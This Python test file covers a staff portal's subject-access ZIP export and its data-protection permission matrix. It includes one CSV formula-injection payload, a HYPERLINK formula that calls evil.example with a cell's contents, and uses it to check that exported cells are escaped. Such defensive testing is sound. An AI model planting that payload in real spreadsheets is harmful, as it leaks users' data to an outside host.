"""Subject access: a person downloads everything the portal holds about them,
as a ZIP of JSON and CSV; never anyone else's private entries; only ever their own.

Also the permission matrix for every data-protection action."""

import csv
import io
import json
import zipfile

import pytest

from db.access_log import RecordKind, RecordView
from db.audits import HolderReply
from db.engine import session_scope
from db.organisation import AuditTrail, Grade, Role
from db.reflection import DebriefCreate, EntryKind
from pages import _registry as screens
from qa.access.actor import Actor
from qa.access.policy import Action, PersonScope, can
from qa.audits import workflow as audit_workflow
from qa.errors import PermissionDenied
from qa.privacy import subject_access
from qa.reflection import debriefs, journal, sharing, support
from qa.supervision import records as supervision
from qa.validation import validate
from tests.test_reflection import SECRET, debrief_form, write_note
from tests.test_supervision import record, sent_audit, shared_observation

PIPS_SECRET = "Pip wrote this about a hard week"
PIPS_DEBRIEF = "Pip's debrief: the court hearing"
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Click")'


def open_zip(data: bytes) -> dict[str, str]:
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        assert archive.testzip() is None
        return {name.split("/", 1)[1]: archive.read(name).decode("utf-8-sig") for name in archive.namelist()}


def table(files, name):
    rows = json.loads(files[f"{name}.json"])
    sheet = list(csv.DictReader(io.StringIO(files[f"{name}.csv"])))
    assert len(rows) == len(sheet), name
    return rows, sheet


@pytest.fixture
def world(org):
    pat = org.actor(org.practitioner_id)
    pip = org.actor(org.peer_id)
    audit_id = sent_audit(org)
    audit_workflow.reply(pat, audit_id, validate(HolderReply, {"reply": "I have made the referral."}))
    obs_id = shared_observation(org)
    one_to_one = record(org, personal_notes="Pat is grieving; agreed lighter caseload.")
    supervision.sign(pat, one_to_one, "Thank you.")
    group = record(
        org,
        participants=[org.practitioner_id, org.peer_id],
        kind="group case discussion",
        personal_notes="Pip mentioned their divorce.",
        actions=[],
    )
    supervision.sign(pip, group, "Pip's comment on the group session.")
    note_id = write_note(org)
    formula_note = journal.new_note(pat)
    journal.save_note(pat, formula_note, title=FORMULA, sections={"notes": "+SUM(A1:A9)"}, finished=True)
    sharing.share(pat, EntryKind.NOTE, note_id, org.spo_id, for_supervision=True)
    saved = debriefs.record_debrief(
        pat, validate(DebriefCreate, debrief_form(support_from=org.spo_id, urgency="today"))
    )
    # Pip's private entries, one shared with Pat and one not.
    pips_note = write_note(org, author=org.peer_id, secret=PIPS_SECRET)
    sharing.share(pip, EntryKind.NOTE, pips_note, org.practitioner_id)
    pips_debrief = debriefs.record_debrief(pip, validate(DebriefCreate, debrief_form(what_happened=PIPS_DEBRIEF)))
    sharing.share(pip, EntryKind.DEBRIEF, pips_debrief.id, org.practitioner_id)
    support.ask(pip, org.practitioner_id, "this week")
    with session_scope() as session:
        session.add(
            RecordView(
                viewer_id=org.spo_b_id,
                subject_id=org.practitioner_id,
                record_kind=RecordKind.OBSERVATION,
                record_id=obs_id,
            )
        )
        session.add(
            RecordView(
                viewer_id=org.practitioner_id,
                subject_id=org.peer_id,
                record_kind=RecordKind.SHARED_NOTE,
                record_id=pips_note,
            )
        )
    return {
        "audit_id": audit_id,
        "obs_id": obs_id,
        "one_to_one": one_to_one,
        "group": group,
        "note_id": note_id,
        "debrief_id": saved.id,
    }


def test_the_zip_holds_a_readme_and_every_data_set_as_json_and_csv(org, world):
    files = open_zip(subject_access.export_for(org.actor(org.practitioner_id)))
    assert "README.txt" in files
    sets = {name.rsplit(".", 1)[0] for name in files if name != "README.txt"}
    assert {f"{s}.json" for s in sets} | {f"{s}.csv" for s in sets} | {"README.txt"} == set(files)
    for name in sets:
        assert f"{name}.json / {name}.csv" in files["README.txt"], f"the README explains {name}"
        table(files, name)  # every JSON parses, every CSV reads, with the same number of rows
    assert "Pat Practitioner <pat@example.org>" in files["README.txt"]


def test_my_profile_is_there_without_my_password_hash(org, world):
    files = open_zip(subject_access.export_for(org.actor(org.practitioner_id)))
    [profile], [row] = table(files, "profile")
    assert profile["email"] == "pat@example.org" and profile["full_name"] == "Pat Practitioner"
    assert (
        profile["roles"] == ["practitioner"]
        and profile["supervisor"] == "Sam Supervisor"
        and profile["team"] == "Team A"
    )
    assert row["roles"] == "practitioner" and row["staff_id"] == "P001"
    assert not any("$argon2" in text for text in files.values())


def test_my_own_notes_and_debriefs_are_there_in_full(org, world):
    files = open_zip(subject_access.export_for(org.actor(org.practitioner_id)))
    notes, _ = table(files, "journal_notes")
    assert {n["title"] for n in notes} == {"After the home visit", FORMULA}
    note = next(n for n in notes if n["id"] == world["note_id"])
    assert note["sections"]["what"] == SECRET and note["tags"] == ["boundaries"]
    [debrief], [row] = table(files, "debriefs")
    assert (
        debrief["what_happened"] == SECRET
        and debrief["feelings"] == ["anxious", "drained"]
        and debrief["intensity"] == 8
    )
    assert row["feelings"] == "anxious; drained"
    shares, _ = table(files, "shares_i_made")
    assert [(s["kind"], s["shared_with"], s["for_supervision"]) for s in shares] == [("note", "Sam Supervisor", True)]
    [request], _ = table(files, "support_requests_i_made")
    assert (request["asked"], request["urgency"], request["debrief_id"]) == (
        "Sam Supervisor",
        "today",
        world["debrief_id"],
    )


def test_other_peoples_private_entries_are_never_included_even_when_shared_with_me(org, world):
    files = open_zip(subject_access.export_for(org.actor(org.practitioner_id)))
    everything = "\n".join(files.values())
    assert PIPS_SECRET not in everything
    assert PIPS_DEBRIEF not in everything
    # Nor does Pip's export hold Pat's.
    pips = "\n".join(open_zip(subject_access.export_for(org.actor(org.peer_id))).values())
    assert SECRET not in pips and PIPS_SECRET in pips and PIPS_DEBRIEF in pips


def test_observations_of_me_come_with_ratings_replies_and_goals(org, world):
    files = open_zip(subject_access.export_for(org.actor(org.practitioner_id)))
    [obs], _ = table(files, "observations_of_me")
    assert (obs["id"], obs["observer"], obs["strengths"]) == (world["obs_id"], "Bea Supervisor", "Warm and clear.")
    ratings, _ = table(files, "observation_ratings")
    assert len(ratings) == 10 and all(r["observer_rating"] == 3 for r in ratings)
    assert {r["evidence"] for r in ratings} >= {"Seen: relationship"}
    [goal], _ = table(files, "development_goals")
    assert goal["description"] == "Use summaries"
    # The observer's export lists it as one they carried out, without Pat's ratings.
    beas = open_zip(subject_access.export_for(org.actor(org.spo_b_id)))
    [done], _ = table(beas, "observations_i_carried_out")
    assert done == {
        "id": world["obs_id"],
        "observed_on": obs["observed_on"],
        "practitioner": "Pat Practitioner",
        "status": obs["status"],
    }
    assert table(beas, "observation_ratings")[0] == []


def test_audits_of_my_cases_come_with_the_sheet_answers_my_reply_and_actions(org, world):
    files = open_zip(subject_access.export_for(org.actor(org.practitioner_id)))
    [audit], _ = table(files, "audits_of_my_cases")
    assert audit["id"] == world["audit_id"] and audit["my_reply"] == "I have made the referral."
    assert audit["feedback_to"] == "Sam Supervisor" and len(audit["auditors"]) == 2
    answers, _ = table(files, "audit_answers")
    assert answers and all(a["audit_id"] == world["audit_id"] and a["answer"] == "yes" for a in answers)
    actions, _ = table(files, "audit_actions")
    assert [(a["description"], a["owner"]) for a in actions] == [("Refer to MAPPA", "Pat Practitioner")]


def test_supervision_includes_my_sessions_but_not_someone_elses_private_personal_notes(org, world):
    files = open_zip(subject_access.export_for(org.actor(org.practitioner_id)))
    sessions, _ = table(files, "supervision_sessions")
    by_id = {s["id"]: s for s in sessions}
    assert set(by_id) == {world["one_to_one"], world["group"]}
    assert by_id[world["one_to_one"]]["personal_notes"] == "Pat is grieving; agreed lighter caseload."
    assert by_id[world["one_to_one"]]["my_comments"] == "Thank you."
    # The group session's private note and Pip's comment are about Pip.
    assert by_id[world["group"]]["personal_notes"] is None
    everything = "\n".join(files.values())
    assert "Pip mentioned their divorce." not in everything
    assert "Pip's comment on the group session." not in everything
    decisions, _ = table(files, "supervision_case_discussions")
    assert {d["decision"] for d in decisions} == {"Refer to MAPPA level 2"}
    # The SPO wrote the notes, but private personal-support notes are about the practitioner.
    spo_sessions, _ = table(open_zip(subject_access.export_for(org.actor(org.spo_id))), "supervision_sessions")
    assert {s["my_part"] for s in spo_sessions} == {"supervisor"}
    assert all(s["personal_notes"] is None for s in spo_sessions)


def test_who_viewed_my_records_and_what_i_did_are_there(org, world):
    files = open_zip(subject_access.export_for(org.actor(org.practitioner_id)))
    views, _ = table(files, "views_of_my_records")
    seen = {(v["viewer"], v["record"], v["record_id"]) for v in views}
    assert ("Bea Supervisor", "observation", world["obs_id"]) in seen
    # Pat's own look at Pip's shared note is in Pip's log, not Pat's.
    assert not any(v["viewer"] == "Pat Practitioner" for v in views)
    pips = table(open_zip(subject_access.export_for(org.actor(org.peer_id))), "views_of_my_records")[0]
    assert ("Pat Practitioner", "shared_note") in {(v["viewer"], v["record"]) for v in pips}
    trail_rows, _ = table(files, "my_actions_in_the_audit_trail")
    assert ("replied", "case_audit", str(world["audit_id"])) in {
        (t["action"], t["record"], t["record_id"]) for t in trail_rows
    }
    assert any(t["record"] == "supervision_session" and t["action"] == "signed" for t in trail_rows)


def test_csv_cells_cannot_run_as_formulas(org, world):
    files = open_zip(subject_access.export_for(org.actor(org.practitioner_id)))
    notes, sheet = table(files, "journal_notes")
    assert FORMULA in {n["title"] for n in notes}, "the JSON keeps exactly what was typed"
    cells = {row["title"] for row in sheet}
    assert "'" + FORMULA in cells and FORMULA not in cells
    assert any(row["sections"] == "notes: +SUM(A1:A9)" for row in sheet), (
        "a cell that does not start with a trigger is left alone"
    )


def test_the_download_is_written_to_the_trail_without_its_contents(org, world):
    subject_access.export_for(org.actor(org.practitioner_id))
    with session_scope() as session:
        from sqlmodel import select

        [entry] = session.exec(select(AuditTrail).where(AuditTrail.entity == "subject_access")).all()
    assert entry.actor_id == org.practitioner_id and entry.action == "exported" and SECRET not in entry.summary


def test_nobody_can_export_without_being_signed_in(org):
    with pytest.raises(PermissionDenied):
        subject_access.export_for(None)


def test_the_account_page_offers_the_download(app, org):
    from tests.test_pages import texts
    from tests.test_pages_learn import signed_in

    at = signed_in(app, "pat@example.org", screens.MY_ACCOUNT.file)
    assert not at.exception
    buttons = at.get("download_button")
    assert [b.proto.label for b in buttons] == ["Download everything the portal holds about me"]
    assert "never included" in texts(at)


# --- the permission matrix ------------------------------------------------------------

ME, SOMEONE_ELSE = 1, 2
ROLES = [Role.PRACTITIONER, Role.SPO, Role.QA_LEAD, Role.ADMIN]


def person(role: Role, id: int = ME) -> Actor:
    return Actor(
        id=id, full_name="X", email="x@example.org", grade=Grade.PO, roles=frozenset({role}), team_id=1, pdu_id=1
    )


@pytest.mark.parametrize("role", ROLES)
def test_matrix_retention_is_for_administrators_only(role):
    assert can(person(role), Action.MANAGE_RETENTION) is (role == Role.ADMIN)


@pytest.mark.parametrize("role", ROLES)
def test_matrix_erasure_is_for_administrators_and_never_of_themselves(role):
    assert can(person(role), Action.ERASE_PRIVATE_ENTRIES, PersonScope(SOMEONE_ELSE)) is (role == Role.ADMIN)
    assert not can(person(role), Action.ERASE_PRIVATE_ENTRIES, PersonScope(ME))
    assert not can(person(role), Action.ERASE_PRIVATE_ENTRIES, None)


@pytest.mark.parametrize("role", ROLES)
def test_matrix_everyone_exports_themselves_and_nobody_exports_someone_else(role):
    assert can(person(role), Action.EXPORT_MY_DATA, PersonScope(ME))
    assert not can(person(role), Action.EXPORT_MY_DATA, PersonScope(SOMEONE_ELSE))
    assert not can(person(role), Action.EXPORT_MY_DATA, None)
    assert not can(person(role), Action.EXPORT_MY_DATA, ME), "a bare id is the wrong kind of target"


@pytest.mark.parametrize("action", [Action.MANAGE_RETENTION, Action.ERASE_PRIVATE_ENTRIES, Action.EXPORT_MY_DATA])
def test_matrix_nobody_signed_in_may_do_any_of_it(action):
    assert not can(None, action, PersonScope(ME))
